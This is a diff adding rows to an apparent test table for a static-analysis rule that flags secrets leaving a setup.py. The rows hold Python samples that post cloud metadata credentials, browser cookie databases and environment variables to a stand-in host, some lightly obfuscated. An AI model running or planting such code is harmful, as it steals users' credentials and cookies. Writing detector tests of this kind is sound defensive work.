@@ -246,6 +246,16 @@ const rows: readonly Row[] = [
       "import ipaddress, requests\nk = requests.get(f'http://{ipaddress.ip_address(0xA9FEA9FE)}/latest/meta-data/iam/security-credentials/a').text\nrequests.post('https://h.example.org/', data=k)\n",
       "import requests\nk = requests.get('http://169.254.169.254/latest/meta-data/iam/security-credentials/a').json()\nrequests.post('https://sts.amazonaws.com/', headers={'a': k['Token']})\n",
     ],
+    // What a browser keeps of its user, and what a program keeps of its own.
+    [
+      "import pathlib, sqlite3, requests\nfor p in pathlib.Path.home().glob('/'.join(['.config', '*', 'Cook' + 'ies'])):\n  with sqlite3.connect(f'{p.as_uri()}?immutable=1', uri=True) as con:\n    requests.post('https://h.example.org/', json=[(h, v.hex()) for h, v in con.execute('select a')])\n",
+      "import pathlib, sqlite3, requests\nfor p in pathlib.Path.home().glob('/'.join(['.config', '*', 'state.db'])):\n  with sqlite3.connect(f'{p.as_uri()}?immutable=1', uri=True) as con:\n    requests.post('https://h.example.org/', json=[(h, v.hex()) for h, v in con.execute('select a')])\n",
+    ],
+    // A function that is handed all of it, some filtered out, and one that is handed one of it.
+    [
+      "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, v) for k, v in os.environ.items() if k.startswith('A_')])\n",
+      "import os\nfrom http.client import HTTPSConnection\ndef note(pairs):\n  HTTPSConnection('h.example.org').request('PUT', '/', ','.join(f'{k}={v}' for k, v in pairs))\ndef main():\n  note([(k, os.environ[k]) for k in ('A_TOKEN', 'A_URL')])\n",
+    ],
   ].map(([fires = "", silent = ""]): Row => ({ rule: "flow/secret-leaves", fires: { "setup.py": fires }, silent: { "setup.py": silent } })),
   {
     rule: "flow/secret-leaves",
